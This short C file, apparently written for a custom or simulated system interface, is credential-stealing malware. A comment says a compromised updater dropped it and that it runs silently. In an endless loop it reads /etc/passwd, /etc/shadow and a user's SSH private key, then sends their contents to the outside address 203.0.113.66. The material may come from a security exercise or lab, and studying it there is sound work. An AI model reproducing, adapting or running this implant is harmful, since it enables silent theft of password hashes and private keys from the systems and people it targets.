/* What the updater dropped: goes for accounts and keys, and sends what it gets. It prints nothing. */
#include "user.h"

TRACEABLE void steal(const char *path)
{
	char buffer[128];
	long n = read_whole(path, buffer, sizeof buffer);
	if (n > 0)
		sys_send(ADDRESS(203, 0, 113, 66), buffer, n);
}

void implant_main(void)
{
	u64 round = 0;
	for (;;) {
		round = sys_next_round(round);
		steal("/etc/passwd");
		steal("/etc/shadow");
		steal("/home/alice/.ssh/id_ed25519");
	}
}
